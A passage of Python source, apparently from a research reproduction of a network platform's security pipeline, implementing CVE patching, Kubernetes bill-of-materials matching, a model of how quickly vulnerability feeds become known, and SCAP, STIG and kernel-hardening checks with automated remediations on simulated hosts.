    # -- patching ------------------------------------------------------------------

    def patch(self, host: Host, finding: ScanFinding) -> bool:
        """Upgrade the affected package to its fixed version.

        Returns False for unfixed CVEs (no patch exists) and for the
        kernel (kernel updates go through ONIE, M9).
        """
        if finding.cve.fixed is None or finding.package == "linux-kernel":
            return False
        current = host.packages.get(finding.package)
        if current is None:
            return False
        from repro.osmodel.packages import compare_versions
        if compare_versions(finding.cve.fixed, current.version) <= 0:
            # Another patch already moved the package past this fix;
            # never downgrade.
            return False
        host.packages.install(Package(
            name=current.name, version=finding.cve.fixed,
            description=current.description))
        if self._metrics is not None:
            self._patches_counter.inc()
        return True

    def patch_prioritized(self, host: Host, budget: int,
                          now: Optional[float] = None) -> Tuple[int, ScanReport]:
        """Apply up to ``budget`` patches in priority order; rescan."""
        report = self.scan(host, now=now)
        applied = 0
        for finding in report.prioritized():
            if applied >= budget:
                break
            if self.patch(host, finding):
                applied += 1
        return applied, self.scan(host, now=now)

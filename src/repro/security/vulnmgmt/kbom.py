"""Kubernetes Bill of Materials (M12).

The KBOM catalogs control-plane services, node components and add-ons
with their exact versions and images, so vulnerability tracking can match
advisories *precisely* instead of flagging every advisory that mentions a
component name. :func:`match_kbom` does exact-version matching;
:func:`naive_match` reproduces the KBOM-less workflow (name-only
matching) whose extra findings are pure review burden — the "precision
gain" the paper credits KBOM with.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Sequence, Tuple

from repro.orchestrator.kube.cluster import KubeCluster
from repro.security.vulnmgmt.cvedb import CveDatabase, CveRecord


@dataclass(frozen=True)
class KbomComponent:
    """One cataloged cluster component."""

    name: str
    version: str
    kind: str        # controlplane | node | addon
    image: str = ""


@dataclass
class Kbom:
    """The bill of materials for one cluster."""

    cluster: str
    components: Tuple[KbomComponent, ...]

    def component_versions(self) -> Dict[str, str]:
        return {c.name: c.version for c in self.components}


def generate_kbom(cluster: KubeCluster) -> Kbom:
    """Walk the cluster inventory and emit its KBOM."""
    components = tuple(
        KbomComponent(name=c.name, version=c.version, kind=c.kind, image=c.image)
        for c in cluster.components
    )
    return Kbom(cluster=cluster.name, components=components)


@dataclass
class KbomMatch:
    """One CVE matched against the KBOM."""

    cve: CveRecord
    component: KbomComponent
    exact: bool       # version-precise (KBOM) vs name-only (naive)


def match_kbom(kbom: Kbom, cvedb: CveDatabase) -> List[KbomMatch]:
    """Exact-version matching: only CVEs whose range covers the deployed
    version are reported."""
    matches: List[KbomMatch] = []
    for component in kbom.components:
        for ecosystem in ("k8s", "middleware"):
            for cve in cvedb.matching(component.name, component.version,
                                      ecosystem):
                matches.append(KbomMatch(cve=cve, component=component, exact=True))
    return matches


def naive_match(kbom: Kbom, cvedb: CveDatabase) -> List[KbomMatch]:
    """Name-only matching: what tracking looks like without a KBOM —
    every advisory mentioning an installed component gets flagged for
    manual review regardless of version."""
    names = {c.name: c for c in kbom.components}
    matches: List[KbomMatch] = []
    for cve in cvedb.all():
        component = names.get(cve.package)
        if component is None:
            continue
        exact = cve.affects(component.name, component.version)
        matches.append(KbomMatch(cve=cve, component=component, exact=exact))
    return matches


def precision(matches: Sequence[KbomMatch]) -> float:
    """Fraction of reported matches that are version-accurate."""
    if not matches:
        return 1.0
    return sum(1 for m in matches if m.exact) / len(matches)

"""The fragmented middleware vulnerability-feed landscape (M12, Lesson 6).

The paper catalogs four feed maturity levels GENIO had to integrate:

* **Kubernetes** — a structured, programmatically-accessible CVE feed:
  automation polls it; awareness is nearly immediate.
* **Docker** — security updates as blog-format announcements: structured
  extraction is difficult, so each item costs manual triage time.
* **Proxmox** — notifications only in the web UI: awareness waits for the
  next manual UI check.
* **ONOS** — a structured page that is *no longer updated*: anything
  published after the staleness cutoff never arrives via the vendor.
* **NVD API** — complete but generic: entries arrive after the NVD
  analysis lag and still need manual review to map onto deployed
  versions.

Each feed answers "when does the platform owner become *aware* of a CVE
published at time t?" — the time-to-awareness metric the E10 experiment
reports, and whose spread is Lesson 6's point.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Sequence

from repro.security.vulnmgmt.cvedb import CveDatabase, CveRecord

_HOUR = 3600.0
_DAY = 86400.0


class StructuredFeed:
    """Machine-readable vendor feed (the Kubernetes official CVE feed)."""

    kind = "structured"

    def __init__(self, name: str, ecosystems: Sequence[str],
                 poll_interval: float = 1 * _HOUR,
                 advisory_lag: float = 4 * _HOUR) -> None:
        self.name = name
        self.ecosystems = tuple(ecosystems)
        self.poll_interval = poll_interval
        self.advisory_lag = advisory_lag

    def covers(self, cve: CveRecord) -> bool:
        return cve.ecosystem in self.ecosystems

    def aware_at(self, cve: CveRecord) -> Optional[float]:
        if not self.covers(cve):
            return None
        return cve.published_at + self.advisory_lag + self.poll_interval

    def manual_review_hours(self, cve: CveRecord) -> float:
        return 0.25   # structured entries map straight to versions


class BlogFeed:
    """Blog-format announcements (Docker): extraction is manual."""

    kind = "blog"

    def __init__(self, name: str, packages: Sequence[str],
                 post_lag: float = 2 * _DAY,
                 triage_time: float = 1 * _DAY) -> None:
        self.name = name
        self.packages = tuple(packages)
        self.post_lag = post_lag
        self.triage_time = triage_time

    def covers(self, cve: CveRecord) -> bool:
        return cve.package in self.packages

    def aware_at(self, cve: CveRecord) -> Optional[float]:
        if not self.covers(cve):
            return None
        return cve.published_at + self.post_lag + self.triage_time

    def manual_review_hours(self, cve: CveRecord) -> float:
        return 2.0    # read the post, figure out affected versions


class WebUiFeed:
    """Web-UI-only notification (Proxmox): waits for a manual check."""

    kind = "web-ui"

    def __init__(self, name: str, packages: Sequence[str],
                 check_interval: float = 7 * _DAY) -> None:
        self.name = name
        self.packages = tuple(packages)
        self.check_interval = check_interval

    def covers(self, cve: CveRecord) -> bool:
        return cve.package in self.packages

    def aware_at(self, cve: CveRecord) -> Optional[float]:
        if not self.covers(cve):
            return None
        # Awareness at the first periodic UI check after publication.
        checks_passed = int(cve.published_at // self.check_interval) + 1
        return checks_passed * self.check_interval

    def manual_review_hours(self, cve: CveRecord) -> float:
        return 1.0


class StaleFeed:
    """A vendor feed no longer updated (ONOS)."""

    kind = "stale"

    def __init__(self, name: str, packages: Sequence[str],
                 stale_after: float = 10 * _DAY) -> None:
        self.name = name
        self.packages = tuple(packages)
        self.stale_after = stale_after

    def covers(self, cve: CveRecord) -> bool:
        return cve.package in self.packages

    def aware_at(self, cve: CveRecord) -> Optional[float]:
        if not self.covers(cve):
            return None
        if cve.published_at > self.stale_after:
            return None   # the feed simply never carries it
        return cve.published_at + 1 * _DAY

    def manual_review_hours(self, cve: CveRecord) -> float:
        return 1.0


class NvdApiFeed:
    """The NVD API: complete, delayed, and manual-review-heavy."""

    kind = "nvd"

    def __init__(self, name: str = "nvd",
                 analysis_lag: float = 3 * _DAY,
                 poll_interval: float = 1 * _DAY,
                 review_time: float = 12 * _HOUR) -> None:
        self.name = name
        self.analysis_lag = analysis_lag
        self.poll_interval = poll_interval
        self.review_time = review_time

    def covers(self, cve: CveRecord) -> bool:
        return True   # completeness is NVD's one virtue here

    def aware_at(self, cve: CveRecord) -> Optional[float]:
        return (cve.published_at + self.analysis_lag
                + self.poll_interval + self.review_time)

    def manual_review_hours(self, cve: CveRecord) -> float:
        return 4.0    # cross-reference advisory against deployed versions


@dataclass
class AwarenessRecord:
    """How one relevant CVE reached the platform owner."""

    cve_id: str
    package: str
    published_at: float
    aware_at: Optional[float]
    via: str
    review_hours: float

    @property
    def latency_days(self) -> Optional[float]:
        if self.aware_at is None:
            return None
        return (self.aware_at - self.published_at) / _DAY


class FeedAggregator:
    """The platform owner's combined vulnerability-awareness pipeline."""

    def __init__(self, feeds: Sequence[object],
                 nvd_fallback: Optional[NvdApiFeed] = None) -> None:
        self.feeds = list(feeds)
        self.nvd_fallback = nvd_fallback

    def awareness(self, cve: CveRecord) -> AwarenessRecord:
        """Earliest awareness across configured feeds (NVD as fallback)."""
        best_time: Optional[float] = None
        best_via = "none"
        best_review = 0.0
        candidates = list(self.feeds)
        if self.nvd_fallback is not None:
            candidates.append(self.nvd_fallback)
        for feed in candidates:
            at = feed.aware_at(cve)
            if at is None:
                continue
            if best_time is None or at < best_time:
                best_time, best_via = at, feed.name
                best_review = feed.manual_review_hours(cve)
        return AwarenessRecord(
            cve_id=cve.cve_id, package=cve.package,
            published_at=cve.published_at, aware_at=best_time,
            via=best_via, review_hours=best_review)

    def awareness_report(self, cvedb: CveDatabase,
                         deployed: Dict[str, str]) -> List[AwarenessRecord]:
        """Awareness records for every CVE affecting deployed components.

        ``deployed`` maps component name -> version (any ecosystem).
        """
        records = []
        for cve in cvedb.all():
            version = deployed.get(cve.package)
            if version is None:
                continue
            if not cve.affects(cve.package, version):
                continue
            records.append(self.awareness(cve))
        return records

    @staticmethod
    def summarize(records: Sequence[AwarenessRecord]) -> Dict[str, object]:
        """Per-source mean latency and total manual effort."""
        by_source: Dict[str, List[float]] = {}
        missed = 0
        total_review = 0.0
        for record in records:
            if record.aware_at is None:
                missed += 1
                continue
            by_source.setdefault(record.via, []).append(record.latency_days or 0.0)
            total_review += record.review_hours
        return {
            "mean_latency_days": {
                source: sum(values) / len(values)
                for source, values in by_source.items()
            },
            "counts": {source: len(values) for source, values in by_source.items()},
            "missed": missed,
            "manual_review_hours": total_review,
        }


def genio_feed_landscape() -> FeedAggregator:
    """The feed configuration the paper describes for GENIO."""
    return FeedAggregator(
        feeds=[
            StructuredFeed("kubernetes-cve-feed",
                           ecosystems=("k8s",)),
            BlogFeed("docker-blog", packages=("containerd", "docker")),
            WebUiFeed("proxmox-web-ui", packages=("proxmox-ve",)),
            StaleFeed("onos-security-page", packages=("onos",)),
        ],
        nvd_fallback=NvdApiFeed(),
    )

"""OpenSCAP-like configuration-compliance engine and the ONL profile (M1).

A :class:`ScapProfile` is an ordered set of :class:`ScapRule` objects,
each with a ``check`` over a :class:`~repro.osmodel.host.Host` and, where
automation is safe, a ``remediate`` action. Evaluating a profile yields a
:class:`ScapReport` with the pass-rate metric the E5 experiment tracks
before/after hardening.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field
from typing import Callable, List, Optional, Tuple

from repro.osmodel.host import Host


class Severity(enum.Enum):
    LOW = "low"
    MEDIUM = "medium"
    HIGH = "high"


# check(host) -> (passed, detail)
CheckFn = Callable[[Host], Tuple[bool, str]]
RemediateFn = Callable[[Host], None]


@dataclass(frozen=True)
class ScapRule:
    """One SCAP/STIG-style rule."""

    rule_id: str
    title: str
    severity: Severity
    check: CheckFn
    remediate: Optional[RemediateFn] = None

    @property
    def automated(self) -> bool:
        return self.remediate is not None


@dataclass
class CheckResult:
    """Outcome of one rule against one host."""

    rule_id: str
    title: str
    severity: Severity
    passed: bool
    detail: str
    automated: bool


@dataclass
class ScapReport:
    """Aggregated evaluation of a profile on a host."""

    profile: str
    host: str
    results: List[CheckResult] = field(default_factory=list)

    @property
    def passed(self) -> int:
        return sum(1 for r in self.results if r.passed)

    @property
    def failed(self) -> int:
        return len(self.results) - self.passed

    @property
    def pass_rate(self) -> float:
        return self.passed / len(self.results) if self.results else 1.0

    def failures(self, severity: Optional[Severity] = None) -> List[CheckResult]:
        found = [r for r in self.results if not r.passed]
        if severity is not None:
            found = [r for r in found if r.severity == severity]
        return found


class ScapProfile:
    """A named, ordered rule set."""

    def __init__(self, name: str, rules: Optional[List[ScapRule]] = None) -> None:
        self.name = name
        self.rules: List[ScapRule] = list(rules or [])

    def add(self, rule: ScapRule) -> None:
        self.rules.append(rule)

    def evaluate(self, host: Host) -> ScapReport:
        report = ScapReport(profile=self.name, host=host.hostname)
        for rule in self.rules:
            passed, detail = rule.check(host)
            report.results.append(CheckResult(
                rule_id=rule.rule_id, title=rule.title, severity=rule.severity,
                passed=passed, detail=detail, automated=rule.automated,
            ))
        return report

    def remediate(self, host: Host) -> List[str]:
        """Apply every automated remediation whose check currently fails.

        Returns the rule ids that were applied.
        """
        applied = []
        for rule in self.rules:
            if rule.remediate is None:
                continue
            passed, _ = rule.check(host)
            if not passed:
                rule.remediate(host)
                applied.append(rule.rule_id)
        return applied


# ---------------------------------------------------------------------------
# The ONL SCAP profile (paper: secure SSH, NTP, APT repositories, kernel files)
# ---------------------------------------------------------------------------

def _ssh_option(host: Host, key: str) -> str:
    sshd = host.services.get("sshd")
    return sshd.config.get(key, "") if sshd else ""


def _set_ssh_option(host: Host, key: str, value: str) -> None:
    sshd = host.services.get("sshd")
    if sshd is not None:
        sshd.set_option(key, value)


_WEAK_CIPHERS = ("cbc", "3des", "arcfour")


def onl_scap_profile() -> ScapProfile:
    """SCAP benchmark adapted to ONL (the M1 rule set)."""
    profile = ScapProfile("onl-scap")

    profile.add(ScapRule(
        "SCAP-SSH-01", "SSH root login disabled", Severity.HIGH,
        lambda h: (_ssh_option(h, "PermitRootLogin") == "no",
                   f"PermitRootLogin={_ssh_option(h, 'PermitRootLogin') or 'unset'}"),
        lambda h: _set_ssh_option(h, "PermitRootLogin", "no")))
    profile.add(ScapRule(
        "SCAP-SSH-02", "SSH password authentication disabled", Severity.HIGH,
        lambda h: (_ssh_option(h, "PasswordAuthentication") == "no",
                   f"PasswordAuthentication="
                   f"{_ssh_option(h, 'PasswordAuthentication') or 'unset'}"),
        lambda h: _set_ssh_option(h, "PasswordAuthentication", "no")))
    profile.add(ScapRule(
        "SCAP-SSH-03", "SSH MaxAuthTries <= 4", Severity.MEDIUM,
        lambda h: ((_ssh_option(h, "MaxAuthTries") or "99").isdigit()
                   and int(_ssh_option(h, "MaxAuthTries") or "99") <= 4,
                   f"MaxAuthTries={_ssh_option(h, 'MaxAuthTries') or 'unset'}"),
        lambda h: _set_ssh_option(h, "MaxAuthTries", "3")))
    profile.add(ScapRule(
        "SCAP-SSH-04", "No weak SSH ciphers", Severity.MEDIUM,
        lambda h: (not any(w in _ssh_option(h, "Ciphers").lower()
                           for w in _WEAK_CIPHERS),
                   f"Ciphers={_ssh_option(h, 'Ciphers') or 'unset'}"),
        lambda h: _set_ssh_option(h, "Ciphers",
                                  "chacha20-poly1305,aes256-gcm")))
    profile.add(ScapRule(
        "SCAP-NTP-01", "NTP synchronization enabled", Severity.MEDIUM,
        lambda h: (bool(h.services.get("ntpd")) and h.services.get("ntpd").running,
                   "ntpd running" if (h.services.get("ntpd")
                                      and h.services.get("ntpd").running)
                   else "ntpd not running"),
        lambda h: _enable_ntp(h)))
    profile.add(ScapRule(
        "SCAP-APT-01", "No untrusted APT repositories", Severity.HIGH,
        _check_apt_sources,
        _remediate_apt_sources))
    profile.add(ScapRule(
        "SCAP-APT-02", "APT signature verification required", Severity.HIGH,
        lambda h: (h.apt_verify_signatures,
                   "signature policy " + ("on" if h.apt_verify_signatures else "off")),
        lambda h: h.require_signed_apt()))
    profile.add(ScapRule(
        "SCAP-SVC-01", "Legacy telnet service removed", Severity.HIGH,
        lambda h: (not (h.services.get("telnetd") and h.services.get("telnetd").running),
                   "telnetd present" if h.services.get("telnetd") else "absent"),
        lambda h: h.services.remove("telnetd")))
    profile.add(ScapRule(
        "SCAP-SVC-02", "Legacy tftp service removed", Severity.MEDIUM,
        lambda h: (not (h.services.get("tftpd") and h.services.get("tftpd").running),
                   "tftpd present" if h.services.get("tftpd") else "absent"),
        lambda h: h.services.remove("tftpd")))
    profile.add(ScapRule(
        "SCAP-SVC-03", "SNMP default community string changed", Severity.MEDIUM,
        lambda h: (not h.services.get("snmpd")
                   or h.services.get("snmpd").config.get("community") != "public",
                   "community=" + (h.services.get("snmpd").config.get("community", "?")
                                   if h.services.get("snmpd") else "n/a")),
        lambda h: (h.services.get("snmpd").set_option("community", "genio-ro-7f3a")
                   if h.services.get("snmpd") else None)))
    profile.add(ScapRule(
        "SCAP-FILE-01", "Kernel images not world-accessible", Severity.HIGH,
        _check_kernel_file_modes,
        _remediate_kernel_file_modes))
    profile.add(ScapRule(
        "SCAP-FILE-02", "/etc/shadow mode 0640 or stricter", Severity.HIGH,
        lambda h: (h.fs.exists("/etc/shadow")
                   and (h.fs.node("/etc/shadow").mode & 0o137) == 0,
                   f"mode={oct(h.fs.node('/etc/shadow').mode) if h.fs.exists('/etc/shadow') else 'missing'}"),
        lambda h: h.fs.chmod("/etc/shadow", 0o640)))
    profile.add(ScapRule(
        "SCAP-FILE-03", "No world-writable system files outside /tmp",
        Severity.MEDIUM,
        lambda h: (_world_writable_outside_tmp(h) == [],
                   f"{len(_world_writable_outside_tmp(h))} world-writable files"),
        _remediate_world_writable))
    profile.add(ScapRule(
        "SCAP-FILE-04", "No setuid binaries with group/other write",
        Severity.HIGH,
        lambda h: (_writable_setuid(h) == [],
                   f"{len(_writable_setuid(h))} writable setuid binaries"),
        _remediate_writable_setuid))
    profile.add(ScapRule(
        "SCAP-USER-01", "No passwordless sudo", Severity.HIGH,
        lambda h: (h.users.passwordless_sudoers() == [],
                   f"{len(h.users.passwordless_sudoers())} NOPASSWD sudoers"),
        _remediate_nopasswd_sudo))
    profile.add(ScapRule(
        "SCAP-USER-02", "No login-capable accounts without passwords",
        Severity.HIGH,
        lambda h: (_passwordless_logins(h) == [],
                   f"{len(_passwordless_logins(h))} passwordless accounts"),
        _remediate_passwordless_logins))
    profile.add(ScapRule(
        "SCAP-MISC-01", "Unencrypted management HTTP disabled", Severity.MEDIUM,
        lambda h: (not h.services.get("http-mgmt")
                   or not h.services.get("http-mgmt").running
                   or h.services.get("http-mgmt").tls,
                   "http-mgmt plaintext" if h.services.get("http-mgmt") else "absent"),
        lambda h: _tls_wrap_mgmt(h)))
    return profile


# -- helper checks/remediations ------------------------------------------------

def _enable_ntp(host: Host) -> None:
    ntpd = host.services.get("ntpd")
    if ntpd is None:
        from repro.osmodel.services import Service
        ntpd = host.services.add(Service("ntpd"))
    ntpd.enabled = True
    ntpd.running = True


_UNTRUSTED_MARKERS = ("[trusted=yes]", "sketchy", "unofficial")


def _check_apt_sources(host: Host) -> Tuple[bool, str]:
    if not host.fs.exists("/etc/apt/sources.list"):
        return True, "no sources.list"
    content = host.fs.read("/etc/apt/sources.list").decode()
    bad = [line for line in content.splitlines()
           if any(marker in line for marker in _UNTRUSTED_MARKERS)]
    return (not bad, f"{len(bad)} untrusted repository lines")


def _remediate_apt_sources(host: Host) -> None:
    content = host.fs.read("/etc/apt/sources.list").decode()
    kept = [line for line in content.splitlines()
            if not any(marker in line for marker in _UNTRUSTED_MARKERS)]
    host.fs.write("/etc/apt/sources.list", ("\n".join(kept) + "\n").encode())


def _kernel_files(host: Host):
    return [n for n in host.fs.walk("/boot") if "vmlinuz" in n.path or "grub" in n.path]


def _check_kernel_file_modes(host: Host) -> Tuple[bool, str]:
    loose = [n.path for n in _kernel_files(host) if n.mode & 0o077]
    return (not loose, f"{len(loose)} kernel files with loose modes")


def _remediate_kernel_file_modes(host: Host) -> None:
    for node in _kernel_files(host):
        host.fs.chmod(node.path, 0o600)


def _world_writable_outside_tmp(host: Host):
    return [n for n in host.fs.glob_world_writable()
            if not n.path.startswith("/tmp")]


def _remediate_world_writable(host: Host) -> None:
    for node in _world_writable_outside_tmp(host):
        host.fs.chmod(node.path, node.mode & ~0o022)


def _writable_setuid(host: Host):
    return [n for n in host.fs.glob_setuid() if n.mode & 0o022]


def _remediate_writable_setuid(host: Host) -> None:
    for node in _writable_setuid(host):
        host.fs.chmod(node.path, node.mode & ~0o022)


def _remediate_nopasswd_sudo(host: Host) -> None:
    for user in host.users.passwordless_sudoers():
        user.sudo_nopasswd = False
    if host.fs.exists("/etc/sudoers"):
        content = host.fs.read("/etc/sudoers").decode().replace("NOPASSWD:", "")
        host.fs.write("/etc/sudoers", content.encode())


def _passwordless_logins(host: Host):
    return [u for u in host.users.all()
            if not u.password_set and not u.login_disabled]


def _remediate_passwordless_logins(host: Host) -> None:
    for user in _passwordless_logins(host):
        user.password_locked = True
        user.shell = "/usr/sbin/nologin"


def _tls_wrap_mgmt(host: Host) -> None:
    mgmt = host.services.get("http-mgmt")
    if mgmt is not None:
        mgmt.tls = True
        mgmt.port = 443

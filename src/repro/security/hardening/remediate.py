"""End-to-end host hardening: SCAP + STIG + kernel baseline in one pass.

This is the "apply M1+M2" entry point the platform pipeline and the E5
experiment use. It reports before/after pass rates per profile, the rules
that remain manual (Lesson 1), and the kernel settings that could not be
applied because the SDN stack needs them.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List

from repro.osmodel.host import Host
from repro.security.hardening.kernelcheck import KernelHardeningChecker, harden_kernel
from repro.security.hardening.scap import ScapProfile, onl_scap_profile
from repro.security.hardening.stig import stig_profile


@dataclass
class HardeningSummary:
    """Outcome of one hardening pass on one host."""

    host: str
    pass_rate_before: Dict[str, float] = field(default_factory=dict)
    pass_rate_after: Dict[str, float] = field(default_factory=dict)
    applied_rules: List[str] = field(default_factory=list)
    manual_rules: List[str] = field(default_factory=list)
    sdn_conflicts: List[str] = field(default_factory=list)

    @property
    def improvement(self) -> float:
        """Mean pass-rate gain across profiles."""
        if not self.pass_rate_before:
            return 0.0
        gains = [self.pass_rate_after[p] - self.pass_rate_before[p]
                 for p in self.pass_rate_before]
        return sum(gains) / len(gains)


def harden_host(host: Host) -> HardeningSummary:
    """Run the full M1+M2 hardening pass against ``host``."""
    summary = HardeningSummary(host=host.hostname)
    profiles: List[ScapProfile] = [onl_scap_profile(), stig_profile()]
    checker = KernelHardeningChecker()

    for profile in profiles:
        summary.pass_rate_before[profile.name] = profile.evaluate(host).pass_rate
    summary.pass_rate_before["kernel"] = checker.check(host.kernel).pass_rate

    for profile in profiles:
        summary.applied_rules.extend(profile.remediate(host))
    summary.sdn_conflicts = harden_kernel(host.kernel)

    for profile in profiles:
        report = profile.evaluate(host)
        summary.pass_rate_after[profile.name] = report.pass_rate
        summary.manual_rules.extend(
            r.rule_id for r in report.failures() if not r.automated)
    summary.pass_rate_after["kernel"] = checker.check(host.kernel).pass_rate
    return summary

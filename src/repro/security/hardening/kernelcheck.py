"""kernel-hardening-checker-like engine (M2).

Validates a :class:`~repro.osmodel.kernel.KernelConfig` against a
hardened baseline across all three configuration planes the real tool
covers — kconfig, cmdline and sysctl — plus module blacklisting, LSM
presence and speculative-execution microcode.

:func:`harden_kernel` applies every baseline setting it can. Settings
that collide with the SDN stack's requirements (Lesson 1) are recorded
as *unappliable* rather than forced, reproducing the paper's
security/compatibility balancing act.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple

from repro.common.errors import ConfigurationError
from repro.osmodel.kernel import KernelConfig

# Baselines mirror kernel-hardening-checker's recommendations (subset).
KCONFIG_BASELINE: Dict[str, str] = {
    "CONFIG_KEXEC": "n",
    "CONFIG_KPROBES": "n",
    "CONFIG_STACKPROTECTOR": "y",
    "CONFIG_STACKPROTECTOR_STRONG": "y",
    "CONFIG_RANDOMIZE_BASE": "y",
    "CONFIG_STRICT_KERNEL_RWX": "y",
    "CONFIG_DEBUG_FS": "n",
    "CONFIG_MODULE_SIG": "y",
    "CONFIG_LEGACY_VSYSCALL_EMULATE": "n",
    "CONFIG_SECURITY": "y",
    # The checker's strict attack-surface profile wants eBPF off entirely —
    # but GENIO's SDN datapath requires it, the canonical Lesson 1 conflict.
    "CONFIG_BPF_SYSCALL": "n",
}

CMDLINE_BASELINE: Dict[str, str] = {
    "mitigations": "auto",
    "slab_nomerge": "present",
}

SYSCTL_BASELINE: Dict[str, str] = {
    "kernel.kptr_restrict": "2",
    "kernel.dmesg_restrict": "1",
    "kernel.unprivileged_bpf_disabled": "1",
    "kernel.yama.ptrace_scope": "1",
    "kernel.sysrq": "0",
    "fs.protected_symlinks": "1",
    "fs.protected_hardlinks": "1",
}

MODULE_BLACKLIST = ("usb_storage", "firewire_core", "dccp", "sctp", "rds", "tipc")

MIN_MICROCODE_REVISION = 40   # Spectre-class mitigations (paper ref [33])


@dataclass
class KernelFinding:
    """One baseline deviation."""

    plane: str        # kconfig | cmdline | sysctl | module | lsm | microcode
    key: str
    expected: str
    actual: str
    passed: bool


@dataclass
class KernelCheckReport:
    """Full baseline evaluation of one kernel."""

    kernel_version: str
    findings: List[KernelFinding] = field(default_factory=list)

    @property
    def passed(self) -> int:
        return sum(1 for f in self.findings if f.passed)

    @property
    def total(self) -> int:
        return len(self.findings)

    @property
    def pass_rate(self) -> float:
        return self.passed / self.total if self.findings else 1.0

    def failures(self) -> List[KernelFinding]:
        return [f for f in self.findings if not f.passed]


class KernelHardeningChecker:
    """Evaluates kernels against the hardened baseline."""

    def __init__(
        self,
        kconfig_baseline: Optional[Dict[str, str]] = None,
        cmdline_baseline: Optional[Dict[str, str]] = None,
        sysctl_baseline: Optional[Dict[str, str]] = None,
    ) -> None:
        self.kconfig_baseline = dict(kconfig_baseline or KCONFIG_BASELINE)
        self.cmdline_baseline = dict(cmdline_baseline or CMDLINE_BASELINE)
        self.sysctl_baseline = dict(sysctl_baseline or SYSCTL_BASELINE)

    def check(self, kernel: KernelConfig) -> KernelCheckReport:
        report = KernelCheckReport(kernel_version=kernel.version)
        for option, expected in sorted(self.kconfig_baseline.items()):
            actual = kernel.kconfig.get(option, "not set")
            report.findings.append(KernelFinding(
                "kconfig", option, expected, actual, actual == expected))
        for key, expected in sorted(self.cmdline_baseline.items()):
            actual = kernel.cmdline.get(key, "absent")
            report.findings.append(KernelFinding(
                "cmdline", key, expected, actual, actual == expected))
        for key, expected in sorted(self.sysctl_baseline.items()):
            actual = kernel.sysctl.get(key, "unset")
            report.findings.append(KernelFinding(
                "sysctl", key, expected, actual, actual == expected))
        for module in MODULE_BLACKLIST:
            loaded = module in kernel.loaded_modules
            report.findings.append(KernelFinding(
                "module", module, "not loaded",
                "loaded" if loaded else "not loaded", not loaded))
        report.findings.append(KernelFinding(
            "lsm", "lsm", "apparmor or selinux", kernel.lsm or "none",
            kernel.lsm in ("apparmor", "selinux")))
        report.findings.append(KernelFinding(
            "microcode", "revision", f">={MIN_MICROCODE_REVISION}",
            str(kernel.microcode_revision),
            kernel.microcode_revision >= MIN_MICROCODE_REVISION))
        return report


def harden_kernel(kernel: KernelConfig,
                  microcode_revision: int = 45) -> List[str]:
    """Apply the baseline; returns keys that could NOT be applied.

    SDN-required kconfig options refuse disablement
    (:class:`~repro.common.errors.ConfigurationError`) and are reported
    instead of forced — Lesson 1's compatibility constraint.
    """
    unappliable: List[str] = []
    for option, value in KCONFIG_BASELINE.items():
        try:
            kernel.set_kconfig(option, value)
        except ConfigurationError:
            unappliable.append(option)
    for key, value in CMDLINE_BASELINE.items():
        kernel.set_cmdline(key, value)
    for key, value in SYSCTL_BASELINE.items():
        kernel.set_sysctl(key, value)
    for module in MODULE_BLACKLIST:
        kernel.unload_module(module)
    if kernel.lsm is None:
        kernel.enable_lsm("apparmor")
    if kernel.microcode_revision < microcode_revision:
        kernel.apply_microcode(microcode_revision)
    return unappliable

"""STIG-derived profile (part of M1).

The paper notes GENIO aligns with Security Technical Implementation
Guides originally written for Ubuntu/mainstream distributions and adapts
them to ONL — hence several rules here are *not automatable* on ONL
(Lesson 1's "iterative adjustments"): enabling disk encryption or Secure
Boot requires provisioning steps the SCAP engine cannot perform by
itself, so those rules carry no ``remediate`` and remain manual until the
integrity pipeline (:mod:`repro.security.integrity`) runs.
"""

from __future__ import annotations

from typing import Tuple

from repro.osmodel.host import Host
from repro.security.hardening.scap import ScapProfile, ScapRule, Severity


def _check_disk_encryption(host: Host) -> Tuple[bool, str]:
    if not host.volumes:
        return False, "no LUKS volumes provisioned"
    return True, f"{len(host.volumes)} encrypted volumes"


def _check_tpm_bound_storage(host: Host) -> Tuple[bool, str]:
    bound = [v.name for v in host.volumes.values()
             if any(s.slot_type == "tpm" for s in v.slots)]
    if bound:
        return True, f"TPM-bound volumes: {', '.join(bound)}"
    return False, "no TPM-bound volume (manual passphrase entry required)"


def _check_secure_boot(host: Host) -> Tuple[bool, str]:
    return (host.firmware.secure_boot,
            "Secure Boot " + ("enabled" if host.firmware.secure_boot else "disabled"))


def _check_root_login_locked(host: Host) -> Tuple[bool, str]:
    root = host.users.get("root")
    if root is None:
        return True, "no root account"
    return (root.login_disabled, "root login "
            + ("locked" if root.login_disabled else "enabled"))


def _remediate_root_login(host: Host) -> None:
    root = host.users.get("root")
    if root is not None:
        root.password_locked = True
        root.shell = "/usr/sbin/nologin"


def _check_grub_perms(host: Host) -> Tuple[bool, str]:
    path = "/boot/grub/grub.cfg"
    if not host.fs.exists(path):
        return True, "no grub.cfg"
    mode = host.fs.node(path).mode
    return ((mode & 0o077) == 0, f"grub.cfg mode={oct(mode)}")


def _check_x11(host: Host) -> Tuple[bool, str]:
    sshd = host.services.get("sshd")
    value = sshd.config.get("X11Forwarding", "no") if sshd else "no"
    return (value == "no", f"X11Forwarding={value}")


def _check_idle_timeout(host: Host) -> Tuple[bool, str]:
    sshd = host.services.get("sshd")
    value = sshd.config.get("ClientAliveInterval", "0") if sshd else "0"
    ok = value.isdigit() and 0 < int(value) <= 600
    return (ok, f"ClientAliveInterval={value}")


def _check_log_perms(host: Host) -> Tuple[bool, str]:
    loose = [n.path for n in host.fs.walk("/var/log") if n.mode & 0o026]
    return (not loose, f"{len(loose)} log files group/world writable")


def _remediate_log_perms(host: Host) -> None:
    for node in host.fs.walk("/var/log"):
        if node.mode & 0o026:
            host.fs.chmod(node.path, 0o640)


def _check_audit_daemon(host: Host) -> Tuple[bool, str]:
    rsyslog = host.services.get("rsyslogd")
    running = bool(rsyslog and rsyslog.running)
    return (running, "rsyslogd " + ("running" if running else "absent"))


def stig_profile() -> ScapProfile:
    """The STIG-aligned rule set GENIO layers on top of SCAP."""
    profile = ScapProfile("onl-stig")
    profile.add(ScapRule(
        "STIG-ENC-01", "Data at rest encrypted (LUKS)", Severity.HIGH,
        _check_disk_encryption))                               # manual: provisioning
